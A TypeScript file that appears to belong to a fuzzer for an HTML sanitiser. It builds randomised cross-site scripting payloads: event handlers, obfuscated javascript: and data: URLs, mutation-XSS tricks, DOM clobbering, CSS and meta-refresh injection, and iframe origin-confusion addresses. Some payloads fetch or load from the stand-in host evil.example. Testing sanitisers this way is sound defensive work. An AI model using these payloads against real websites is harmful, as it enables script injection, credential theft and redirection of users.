import type { Chance } from '../chance.ts';
import { containers, deeds, events, foreign, hides, ids, rawText, seams } from './html-words.ts';

type Family = (chance: Chance) => string;

/** Each family is one idea that has fooled an HTML sanitiser; a payload is one family with random details. */
const families: Record<string, Family> = {
  handler: (chance) => {
    const [tag, source] = chance.pick([
      ['img', 'src=x'],
      ['video', 'src=x autoplay'],
      ['input', 'autofocus'],
      ['details', 'open'],
      ['body', ''],
      ['svg', ''],
      ['a', 'href=# tabindex=0 autofocus'],
      ['iframe', 'src=about:blank'],
      ['audio', 'src=data:,'],
      ['div', 'popover id=x'],
      ['p', ''],
      ['span', 'style="animation:x"'],
    ] as const);
    return `<${tag}${chance.pick(seams)}${source}${chance.pick(seams)}${odd(chance, chance.pick(events))}${chance.pick(['=', ' =', '=\n', '\0='])}${quoted(chance, chance.pick(deeds))}${chance.pick(['>', '', '/>', ' <p>'])}`;
  },
  script: (chance) =>
    `<${odd(chance, 'script')}${chance.pick(['', ' src=//evil.example/x.js', ' type=module', '/x', '\0'])}>${chance.pick(deeds)}</${odd(chance, 'script')}${chance.pick(['>', ' >', '/x>', ''])}`,
  address: (chance) => {
    const where = chance.pick([
      '<a href=V>x</a>',
      '<iframe src=V></iframe>',
      '<form action=V><button>x</button></form>',
      '<a href=# ping=V>x</a>',
      '<object data=V></object>',
      '<embed src=V>',
      '<svg><a xlink:href=V><text>x</text></a></svg>',
      '<math href=V>x</math>',
      '<img src=V>',
      '<base href=V>',
      '<link rel=stylesheet href=V>',
      '<area href=V>',
      '<a href=V target=_blank>x</a>',
      '<button formaction=V>x</button>',
      '<svg><use href=V></svg>',
      '<svg><animate attributeName=href to=V></svg>',
      '<blockquote cite=V>x</blockquote>',
      '<img srcset=V>',
      '<img src=/a.png longdesc=V>',
    ]);
    return where.replace('V', () => quoted(chance, address(chance)));
  },
  foreignStyle: (chance) => {
    const outer = chance.pick(foreign);
    const breakout = chance.pick(['style', 'title', 'textarea', 'noscript', 'xmp', 'iframe', 'noembed']);
    return `<${outer}><${chance.pick(['', 'mglyph><', 'malignmark><', 'table><mglyph><', 'p><', 'g><'])}${breakout}>${chance.pick(['<!--', '<![CDATA[', '', '&lt;', '<a title="'])}</${breakout}>${fire(chance)}${chance.pick(['-->', ']]>', '', '">'])}`;
  },
  nestedForms: (chance) =>
    `<form><${chance.pick(['math><mtext', 'div', 'table', 'svg><desc', 'p'])}></form><form><${chance.pick(['mglyph', 'malignmark', 'b', 'input name=attributes'])}><${chance.pick(rawText)}></${chance.pick(['math', 'form', 'table', 'svg'])}>${fire(chance)}`,
  comment: (chance) =>
    `${chance.pick(['<!-->', '<!--->', '<!-- --!>', '<!-- -- >', '<!', '<?xml ', '</ ', '<!doctype ', '<![CDATA[', '<!--<!--', '<!-- > ', '<!--\0-->', '<%', '<!ENTITY x "'])}${fire(chance)}${chance.pick(['-->', '--!>', ']]>', '?>', '>', ''])}`,
  rawText: (chance) => {
    const tag = chance.pick(rawText);
    return `<${tag}>${chance.pick(['', '<!--', '</', '<p title="', `</${tag} x="`, '\0'])}${chance.pick([`</${tag}>`, `</${odd(chance, tag)} >`, `</${tag}`, ''])}${fire(chance)}${chance.pick(['', `</${tag}>`, '">', '-->'])}`;
  },
  attributeBreak: (chance) =>
    `<${chance.pick(['img alt', 'a title', 'p lang', 'img src', 'iframe title', 'li data-list', 'td scope', 'div data-language', 'p class', 'p style', 'img title'])}=${chance.pick(['"', "'", '`', ''])}${chance.pick(['"', '&quot;', '&#34', "'", '`', '&lt;', '>', '--&gt;', '\u0000"', '</p>', '&amp;quot;', '\u201c'])}>${fire(chance)}${chance.pick(['"', "'", ''])}>`,
  frame: (chance) =>
    `<iframe ${chance.pick(['src', 'SRC', 'src=https://player.vimeo.com/video/1 src', 'srcdoc', 'src\0'])}=${quoted(chance, frameAddress(chance))} ${chance.pick(['', 'srcdoc="<script>top.canary(1)</script>"', 'sandbox=""', 'sandbox=allow-top-navigation', `onload="${chance.pick(deeds)}"`, 'name=canary', 'allow="camera *"', 'csp=x', 'credentialless'])}>${chance.pick(['</iframe>', '', `${fire(chance)}</iframe>`])}`,
  style: (chance) =>
    `<${chance.pick(['p', 'span', 'div', 'td', 'a', 'img'])} style=${quoted(chance, chance.pick(['color', 'background-color', 'text-align', 'background', 'position', 'COLOR', 'color\\', '--x', 'width']) + chance.pick([':', ' :', ':/**/', '\\3a']) + chance.pick(['url(//evil.example/x)', 'red;position:fixed;inset:0', 'expression(canary(1))', 'var(--x)', 'image-set("//evil.example/x" 1x)', 'r\\65 d', 'red}*{color:red', 'attr(x url)', 'rgb(1,1,1);background:url(//evil.example)', 'env(x)', 'red/*', '#fff!important;top:0', 'transparent']))}>x</p>`,
  head: (chance) =>
    chance.pick([
      '<meta http-equiv=refresh content="0;url=//evil.example/">',
      '<meta http-equiv="refresh" content="0;javascript:canary(1)">',
      '<base href=//evil.example/>',
      '<base target=_top>',
      '<link rel=stylesheet href=//evil.example/x.css>',
      '<link rel=prefetch href=//evil.example/>',
      '<link rel="dns-prefetch" href="//evil.example">',
      '<style>@import "//evil.example/x.css";*{display:none}</style>',
      '<meta charset=utf-7>',
      '<meta name=referrer content=unsafe-url>',
      '<title>Other</title>',
      '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["//evil.example/"]}]}</script>',
      '<script type=importmap>{}</script>',
      '<html manifest=//evil.example/x onclick=canary(1)>',
      '<body background=//evil.example/x onload=canary(1)>',
    ]),
  clobber: (chance) => {
    const name = chance.pick(ids);
    return chance.pick([
      `<img name=${name}>`,
      `<a id=${name}><a id=${name} name=x href=//evil.example>`,
      `<form id=${name}><input name=${chance.pick(ids)}></form>`,
      `<iframe name=${name} src=https://player.vimeo.com/video/1></iframe>`,
      `<object id=${name}></object>`,
      `<p id=${name} name=${name}>x</p>`,
      `<embed name=${name}>`,
      `<form name=${name}><output name=${chance.pick(ids)}>x</output></form>`,
      `<div data-rich-text=1 data-embed="<iframe src=//evil.example>" data-script=dir class="ql-video" slot=x is=x part=x>x</div>`,
    ]);
  },
  entities: (chance) => {
    const text = fire(chance);
    return chance.pick([
      text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
      text.replaceAll('<', '&amp;lt;'),
      text.replaceAll('<', '&#60'),
      text.replaceAll('<', '&#x0003c;'),
      text.replaceAll('<', '\uff1c'),
      text.replaceAll('<', '\u00bc').replaceAll('>', '\u00be'),
      text.replaceAll('<', '+ADw-'),
      text.replaceAll('<', '<\0'),
      text.replaceAll('<', '<\u2028'),
      text.replaceAll('<', '<<'),
      text.replaceAll('<', '\u001b$B<'),
      text.toUpperCase(),
    ]);
  },
  embedLink: (chance) =>
    `<p>پشاور <iframe src="https://www.youtube.com/embed/x" title=${quoted(chance, chance.pick(['</bdi><img src=x onerror=canary(1)>', '"><img src=x onerror=canary(1)>', '&lt;img src=x onerror=canary(1)&gt;', '&quot;&gt;&lt;img src=x onerror=canary(1)&gt;', "'", '&amp;lt;', "x' data-embed='<iframe src=//evil.example>"]))}></iframe></p>`,
  longImage: (chance) => {
    const run =
      'A='.repeat(300) +
      chance.pick([
        '',
        ' onerror=canary(1)',
        '" onerror="canary(1)',
        "'",
        '>',
        '<svg onload=canary(1)>',
        ';base64,',
      ]);
    return chance.pick([
      `<img src="data:image/png;base64,${run}">`,
      `<img src=data:image/png;base64,${run}>`,
      `<p title=";base64,${run}">x</p>`,
      `;base64,${run}`,
      `<a href="data:text/html;base64,${run}">x</a>`,
      `<!--;base64,${run}-->`,
      `<img alt=';base64,${run}' src=/a.png>`,
    ]);
  },
  deep: (chance) =>
    `${`<${chance.pick(containers)}>`.repeat(chance.pick([40, 99, 101, 300, 513, 700]))}${fire(chance)}`,
};

function fire(chance: Chance): string {
  return chance.pick([
    '<img src=x onerror=canary(1)>',
    '<svg onload=canary(1)>',
    '<script>canary(1)</script>',
    '<a href=javascript:canary(1)>x</a>',
    `<img/src=x${chance.pick(seams)}onerror=${chance.pick(deeds)}>`,
    '<iframe srcdoc="<script>top.canary(1)</script>">',
    '<b onclick=canary(1) id=root>x',
  ]);
}

/** Returns the letters in another case, or letters of another alphabet that some function folds into these. */
function odd(chance: Chance, word: string): string {
  if (chance.percent(60)) return word;
  return [...word]
    .map((letter) =>
      chance.percent(70)
        ? letter
        : chance.pick([
            letter.toUpperCase(),
            `\0${letter}`,
            letter === 's' ? '\u017f' : letter,
            letter === 'i' ? '\u0131' : letter,
            letter === 'k' ? '\u212a' : letter,
            `&#${letter.charCodeAt(0)};`,
          ]),
    )
    .join('');
}

function quoted(chance: Chance, value: string): string {
  const escaped = chance.percent(30) ? value.replaceAll(':', '&colon;').replaceAll('(', '&lpar;') : value;
  return chance.pick([
    `"${escaped}"`,
    `'${escaped}'`,
    escaped,
    `"${escaped}`,
    `\`${escaped}\``,
    `"${[...escaped].map((letter) => `&#${letter.codePointAt(0)};`).join('')}"`,
  ]);
}

function address(chance: Chance): string {
  const hide = () => chance.pick(hides);
  const image = '<svg xmlns="http://www.w3.org/2000/svg" onload="canary(1)"/>';
  return chance.pick([
    `${hide()}${odd(chance, 'java')}${hide()}${odd(chance, 'script')}${hide()}:${hide()}${chance.pick(deeds)}`,
    `${hide()}vbscript${hide()}:canary(1)`,
    `${hide()}data:${hide()}text/html${chance.pick([';base64', ';charset=utf-7', ''])},<script>top.canary(1)</script>`,
    `data:image/svg+xml;base64,${Buffer.from(image).toString('base64')}`,
    `data:image/svg+xml,${encodeURIComponent(image)}`,
    `data:image/png;base64,${Buffer.from(image).toString('base64')}`,
    `data:image/png,${image}`,
    `DATA:image/png;base64,AAAA" onerror="canary(1)`,
    `blob:https://evil.example/x`,
    `${chance.pick(['//', '\\\\', '/\\', '/\t/', '\t//', 'https:', 'https:/', 'http:\\\\', '///', '/./\\'])}evil.example/x`,
    `${chance.pick(['/api/deleteBlog/1', '/%61pi/logout', '/x/../api/x', '/.//api/x', '/API/x', '/ap\u0131/x', '/\uff41pi/x', '/a\tpi/x', '//localhost/api/x', '/%2561pi/x', '/api\u200b/x', './api/x', '/storage/..%2fapi/x', '/storage\\..\\api\\x'])}`,
    `${chance.pick(['mailto', 'tel', 'sms', 'ftp', 'file', 'ws', 'about', 'view-source', 'intent', 'filesystem', 'jar', 'x', 'feed'])}:${chance.pick(deeds)}`,
    `javascript&${chance.pick(['colon', '#58', '#x3a', '#0000058'])};canary(1)`,
    `https://user:pass@evil.example/`,
    `#${chance.pick(ids)}`,
    `?x=${chance.text(20)}`,
    '',
  ]);
}

function frameAddress(chance: Chance): string {
  const good = chance.pick([
    'https://www.youtube.com/embed/abc',
    'https://www.youtube-nocookie.com/embed/abc',
    'https://player.vimeo.com/video/123',
  ]);
  return chance.pick([
    good,
    good.replace('https:', ''),
    good.replace('https', 'http'),
    good.replace('https', 'javascript'),
    good.replace('.com/', '.com.evil.example/'),
    good.replace('https://', 'https://evil.example/https://'),
    good.replace('https://', 'https://evil.example#'),
    good.replace('https://', 'https://x@'),
    good.replace('.com', '.com@evil.example'),
    good.replace('.com/', '.com\\@evil.example/'),
    good.replace('.com/', '.com:443/'),
    good.replace('/embed', '/redirect?q=//evil.example&/embed'),
    good.replace('/embed/', '/embed/../redirect/'),
    good.replace('/embed/', '/embed/%2e%2e/'),
    good.replace('.', '\u3002'),
    good.replace('o', '\u043e'),
    `${good}\n//evil.example`,
    `${good}?autoplay=1&list=x#//evil.example`,
    `${good}" onload="canary(1)`,
    `\t${good}`,
    `${good}?x=&quot;&gt;<img src=x onerror=canary(1)>`,
    'about:srcdoc',
    address(chance),
  ]);
}

/**
 * Returns the markup of a case: one to four payloads, sometimes nested, in a container, cut or surrounded by Urdu.
 */
export function htmlPayload(chance: Chance): string {
  const names = Object.keys(families);
  const one = () => (families[chance.pick(names)] as Family)(chance);
  let markup = Array.from({ length: 1 + chance.upTo(3) }, one).join(
    chance.pick(['', ' ', '<p>', '</p>', '\n']),
  );
  for (let left = chance.upTo(3); left > 0; left -= 1) {
    const outer = chance.pick(chance.percent(75) ? containers : [...foreign, ...rawText]);
    markup = `<${outer}>${markup}${chance.percent(60) ? `</${outer.split(/[> ]/, 1)[0]}>` : ''}`;
  }
  if (chance.percent(15)) {
    const at = chance.upTo(markup.length);
    markup =
      markup.slice(0, at) +
      chance.pick([...seams, '<', '>', '</', '<!--', '-->', '&', one()]) +
      markup.slice(at + chance.upTo(4));
  }
  if (chance.percent(8)) markup = markup.slice(0, chance.upTo(markup.length));
  if (chance.percent(10)) markup = `<p>یہ پیراگراف</p>${markup}<p>اردو</p>`;
  return markup;
}

/** Payloads that certainly run in a page without sanitising: they prove that a run would notice. */
export const certain: readonly string[] = [
  '<img src=x onerror=canary(1)>',
  '<svg onload=canary(1)></svg>',
  '<img src=x onerror="alert(1)">',
  `<img src=x onerror="fetch('//evil.example/x')">`,
  '<iframe srcdoc="<script>top.canary(1)</script>"></iframe>',
];
